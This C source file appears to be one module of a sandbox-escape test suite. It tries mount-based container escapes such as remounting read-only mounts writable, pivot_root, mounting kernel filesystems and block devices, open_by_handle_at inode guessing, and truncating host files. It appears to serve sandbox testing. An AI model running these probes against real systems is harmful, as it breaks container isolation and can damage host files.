/* The container's mounts: below each is something of the host. */

#include "attacker.h"

#include <linux/mount.h>

#ifndef MOVE_MOUNT_BENEATH
#define MOVE_MOUNT_BENEATH 0x200
#endif

static struct place {
    char path[512];
    bool is_read_only;
} places[128];
static int count;

static void read_places(void) {
    static char text[65536];
    count = 0;
    if (contents("/proc/self/mountinfo", text, sizeof text) < 0)
        return;
    for (char *line = strtok(text, "\n"); line && count < 128; line = strtok(NULL, "\n")) {
        char options[256];
        if (sscanf(line, "%*d %*d %*s %*s %511s %255s", places[count].path, options) == 2) {
            places[count].is_read_only = !strncmp(options, "ro", 2);
            count++;
        }
    }
}

static bool is_read_only(const char *path) {
    read_places();
    bool answer = false;
    for (int i = 0; i < count; i++)
        if (!strcmp(places[i].path, path))
            answer = places[i].is_read_only;
    return answer;
}

static void each_place(void (*act)(const struct place *)) {
    read_places();
    static struct place all[128];
    int known = count;
    memcpy(all, places, sizeof all);
    for (int i = 0; i < known; i++)
        act(&all[i]);
}

/* Unchanged, and again as root of another user namespace. */
static void both_ways(void (*act)(const struct place *)) {
    each_place(act);
    if (enter_nested(0))
        each_place(act);
}

static void unmount(const struct place *place) {
    static const int flags[] = {0, MNT_DETACH, MNT_FORCE, UMOUNT_NOFOLLOW | MNT_DETACH};
    for (size_t i = 0; i < sizeof flags / sizeof *flags; i++)
        if (tried(umount2(place->path, flags[i]), "unmounted %s", place->path) == 0)
            loot(AT_FDCWD, place->path);
}
static void unmounted(void) { both_ways(unmount); }

static void remount(const struct place *place) {
    if (!place->is_read_only)
        return;
    static const unsigned long flags[] = {MS_REMOUNT | MS_BIND, MS_REMOUNT,
                                          MS_REMOUNT | MS_BIND | MS_NOSUID | MS_NODEV | MS_NOEXEC};
    for (size_t i = 0; i < sizeof flags / sizeof *flags; i++)
        if (mount("none", place->path, NULL, flags[i], NULL))
            refused(place->path);
    struct mount_attr clear = {.attr_clr = MOUNT_ATTR_RDONLY};
    for (int recursive = 0; recursive < 2; recursive++)
        if (syscall(SYS_mount_setattr, AT_FDCWD, place->path, recursive ? AT_RECURSIVE : 0, &clear,
                    sizeof clear))
            refused(place->path);
    if (!is_read_only(place->path))
        reached("%s is writable", place->path);
}
static void made_writable(void) { both_ways(remount); }

/* A writable copy of a read-only mount. */
static void copy(const struct place *place) {
    struct mount_attr clear = {.attr_clr = MOUNT_ATTR_RDONLY};
    for (int recursive = 0; recursive < 2; recursive++) {
        int flags = OPEN_TREE_CLONE | (recursive ? AT_RECURSIVE : 0);
        int tree = syscall(SYS_open_tree, AT_FDCWD, place->path, flags);
        if (tree < 0) {
            refused(place->path);
            continue;
        }
        loot(tree, place->path);
        if (!recursive && strcmp(place->path, "/") == 0)
            reached("%s without what is mounted on it", place->path);
        if (place->is_read_only)
            tried(syscall(SYS_mount_setattr, tree, "", AT_EMPTY_PATH, &clear, sizeof clear),
                  "a writable copy of %s", place->path);
        close(tree);
    }
    /* And a bind mount of it, elsewhere. */
    if (mount(place->path, "/tmp", NULL, MS_BIND, NULL)) {
        refused(place->path);
        return;
    }
    if (place->is_read_only)
        tried(mount(NULL, "/tmp", NULL, MS_REMOUNT | MS_BIND, NULL), "a writable bind of %s",
              place->path);
    umount2("/tmp", MNT_DETACH);
}
static void copied(void) { both_ways(copy); }

static void move(const struct place *place) {
    tried(mount(place->path, "/tmp", NULL, MS_MOVE, NULL), "moved %s", place->path);
    int tree = syscall(SYS_open_tree, AT_FDCWD, place->path, 0);
    tried(syscall(SYS_move_mount, tree, "", AT_FDCWD, "/tmp", MOVE_MOUNT_F_EMPTY_PATH), "moved %s",
          place->path);
    close(tree);
    tried(syscall(SYS_move_mount, AT_FDCWD, place->path, AT_FDCWD, "/tmp", MOVE_MOUNT_BENEATH),
          "moved %s beneath", place->path);
}
static void moved(void) { both_ways(move); }

static void pivot(void) {
    for (int nested = 0; nested < 2; nested++) {
        /* This changes the root of all processes in the mount namespace, of other attacks too. */
        if (nested ? !enter_nested(0) : unshare(CLONE_NEWNS)) {
            refused("unshare");
            continue;
        }
        if (mount("none", "/tmp", "tmpfs", 0, NULL)) {
            refused("tmpfs");
            continue;
        }
        mkdir("/tmp/old", 0700);
        if (syscall(SYS_pivot_root, "/tmp", "/tmp/old")) {
            refused("pivot_root");
            continue;
        }
        loot(open("/old", O_PATH), "pivot_root");
        loot(open("/old/..", O_PATH), "pivot_root");
        umount2("/old", MNT_DETACH);
        loot(open("/..", O_PATH), "below the old root");
    }
}

static void shared_propagation(void) {
    for (int nested = 0; nested < 2; nested++) {
        if (nested && !enter_nested(0))
            return;
        if (mount(NULL, "/", NULL, MS_REC | MS_SHARED, NULL)) {
            refused("MS_SHARED");
            continue;
        }
        /* The test looks whether it reaches the host. */
        const char *canary = argument("canary");
        if (canary && !mount("none", "/tmp", "tmpfs", 0, "size=4k")) {
            loot(open("/tmp", O_PATH), "shared");
            umount2("/tmp", MNT_DETACH);
        }
    }
}

static void look_into_root(const char *directory) {
    static const char *const below[] = {"", "1/root", "self/root/..", "1/cwd"};
    for (size_t i = 0; i < sizeof below / sizeof *below; i++) {
        char path[PATH_SIZE];
        snprintf(path, sizeof path, "%s/%s", directory, below[i]);
        int fd = open(path, O_PATH);
        if (fd < 0)
            refused(path);
        else
            loot(fd, path);
    }
}

static void fresh_proc(void) {
    if (!enter_nested(CLONE_NEWPID))
        return;
    if (fork() == 0) {
        if (mount("proc", "/tmp", "proc", 0, NULL)) {
            refused("proc");
        } else {
            look_into_root("/tmp");
            DIR *proc = opendir("/tmp");
            struct dirent *entry;
            while (proc && (entry = readdir(proc)))
                if (atoi(entry->d_name) > 1)
                    reached("process %s", entry->d_name);
        }
        _exit(0);
    }
    wait(NULL);
}

/* File systems of the kernel; whether something can be written there. */
static const char *const writable[] = {
    "", "cgroup.procs", "cgroup.subtree_control", "cgroup.kill", "memory.max", "kernel/mm/ksm/run",
    "power/state", "kernel/uevent_helper", "sda", "vda", "mem", "kmsg", "tracing_on", "register",
};

static void mount_kernels(const char *type, int namespaces) {
    for (int nested = 0; nested < 2; nested++) {
        if (nested && !enter_nested(namespaces))
            return;
        if (mount("none", "/tmp", type, 0, NULL)) {
            refused(type);
            continue;
        }
        loot(open("/tmp", O_PATH), type);
        for (size_t i = 1; i < sizeof writable / sizeof *writable; i++) {
            char path[PATH_SIZE];
            snprintf(path, sizeof path, "/tmp/%s", writable[i]);
            int fd = open(path, O_WRONLY);
            if (fd < 0)
                refused(path);
            else
                reached("%s of %s", writable[i], type);
            close(fd);
        }
        umount2("/tmp", MNT_DETACH);
    }
}

#define MOUNTS(function, type, namespaces) \
    static void function(void) { mount_kernels(type, namespaces); }

MOUNTS(sysfs, "sysfs", CLONE_NEWNET)
MOUNTS(cgroup2, "cgroup2", CLONE_NEWCGROUP)
MOUNTS(cgroup, "cgroup", CLONE_NEWCGROUP)
MOUNTS(devtmpfs, "devtmpfs", 0)
MOUNTS(debugfs, "debugfs", 0)
MOUNTS(tracefs, "tracefs", 0)
MOUNTS(securityfs, "securityfs", 0)
MOUNTS(configfs, "configfs", 0)
MOUNTS(efivarfs, "efivarfs", 0)
MOUNTS(pstore, "pstore", 0)
MOUNTS(bpf, "bpf", 0)
MOUNTS(fusectl, "fusectl", 0)
MOUNTS(mqueue, "mqueue", CLONE_NEWIPC)
MOUNTS(nsfs, "nsfs", 0)

static void block_device_mounted(void) {
    static const char *const types[] = {"ext4", "xfs", "btrfs", "squashfs", "iso9660"};
    if (!enter_nested(0))
        return;
    mknod("/tmp/block", S_IFBLK | 0600, 0x800);
    for (size_t i = 0; i < sizeof types / sizeof *types; i++) {
        tried(mount("/dev/vda", "/tmp", types[i], MS_RDONLY, NULL), "%s of /dev/vda", types[i]);
        tried(mount("/dev/sda", "/tmp", types[i], MS_RDONLY, NULL), "%s of /dev/sda", types[i]);
        tried(mount("/tmp/block", "/tmp", types[i], MS_RDONLY, NULL), "%s of 8:0", types[i]);
    }
}

static void overlay_over(int process) {
    static const char *const roots[] = {"root", "cwd", "root/.."};
    for (size_t i = 0; i < sizeof roots / sizeof *roots; i++) {
        char options[256];
        snprintf(options, sizeof options, "lowerdir=/proc/%d/%s:/dev,userxattr", process, roots[i]);
        if (mount("none", "/tmp", "overlay", MS_RDONLY, options)) {
            refused(options);
            continue;
        }
        loot(open("/tmp", O_PATH), options);
        umount2("/tmp", MNT_DETACH);
    }
}
static void overlay_of_foreign_roots(void) {
    each_near(overlay_over);
    if (enter_nested(0))
        each_near(overlay_over);
}

static void by_handle(const struct place *place) {
    struct file_handle *handle = malloc(sizeof *handle + MAX_HANDLE_SZ);
    int mount_id, fd = open(place->path, O_RDONLY | O_NONBLOCK | O_NOCTTY);
    handle->handle_bytes = MAX_HANDLE_SZ;
    if (fd < 0 || name_to_handle_at(fd, "", handle, &mount_id, AT_EMPTY_PATH)) {
        refused(place->path);
        return;
    }
    struct stat status;
    fstat(fd, &status);
    /* The root of ext4, of XFS and of Btrfs, and the file itself. */
    static const uint32_t inodes[] = {0, 2, 64, 96, 128, 256};
    for (size_t i = 0; i < sizeof inodes / sizeof *inodes; i++) {
        if (inodes[i]) {
            handle->handle_bytes = 8;
            handle->handle_type = 1; /* FILEID_INO32_GEN */
            memcpy(handle->f_handle, &inodes[i], 4);
            memset(handle->f_handle + 4, 0, 4);
        }
        int found = open_by_handle_at(fd, handle, O_RDONLY);
        if (found < 0) {
            refused(place->path);
            continue;
        }
        /* The attacker may look into mounts of its own. */
        loot(found, place->path);
        if (inodes[i])
            reached("inode %u of what is at %s", inodes[i], place->path);
        close(found);
    }
    close(fd);
    free(handle);
}
static void opened_by_handle(void) { both_ways(by_handle); }

static void host_files_written(void) {
    static const char *const files[] = {"/etc/hosts", "/etc/resolv.conf"};
    for (size_t i = 0; i < sizeof files / sizeof *files; i++) {
        int fd = open(files[i], O_WRONLY | O_APPEND);
        tried(fd, "%s for writing", files[i]);
        close(fd);
        tried(truncate(files[i], 1 << 20), "truncate of %s", files[i]);
        tried(link(files[i], "/linked"), "a link to %s", files[i]);
        tried(rename(files[i], "/renamed"), "%s renamed", files[i]);
    }
}

/* Files that the build shows read-only. */
static void lent_directory_written(void) {
    const char *lent = argument("lent");
    if (!lent)
        return;
    for (int nested = 0; nested < 2; nested++) {
        char path[PATH_SIZE];
        if (nested && !enter_nested(0))
            return;
        mount(NULL, lent, NULL, MS_REMOUNT | MS_BIND, NULL);
        snprintf(path, sizeof path, "%s/file", lent);
        tried(open(path, O_WRONLY | O_TRUNC), "%s for writing", path);
        tried(chmod(path, 0777), "chmod of %s", path);
        tried(unlink(path), "%s removed", path);
        snprintf(path, sizeof path, "%s/new", lent);
        tried(open(path, O_WRONLY | O_CREAT, 0600), "%s made", path);
        snprintf(path, sizeof path, "%s/../../../..", lent);
        loot(open(path, O_PATH), path);
    }
}

const struct attack attacks_on_mounts[] = {
    {"umount", unmounted},
    {"remount-writable", made_writable},
    {"open-tree", copied},
    {"move-mount", moved},
    {"pivot-root", pivot},
    {"mount-propagation", shared_propagation},
    {"mount-proc", fresh_proc},
    {"mount-sysfs", sysfs},
    {"mount-cgroup2", cgroup2},
    {"mount-cgroup", cgroup},
    {"mount-devtmpfs", devtmpfs},
    {"mount-debugfs", debugfs},
    {"mount-tracefs", tracefs},
    {"mount-securityfs", securityfs},
    {"mount-configfs", configfs},
    {"mount-efivarfs", efivarfs},
    {"mount-pstore", pstore},
    {"mount-bpf", bpf},
    {"mount-fusectl", fusectl},
    {"mount-mqueue", mqueue},
    {"mount-nsfs", nsfs},
    {"mount-block-device", block_device_mounted},
    {"mount-overlay-of-a-foreign-root", overlay_of_foreign_roots},
    {"open-by-handle-at", opened_by_handle},
    {"host-files-written", host_files_written},
    {"lent-directory-written", lent_directory_written},
    {0},
};
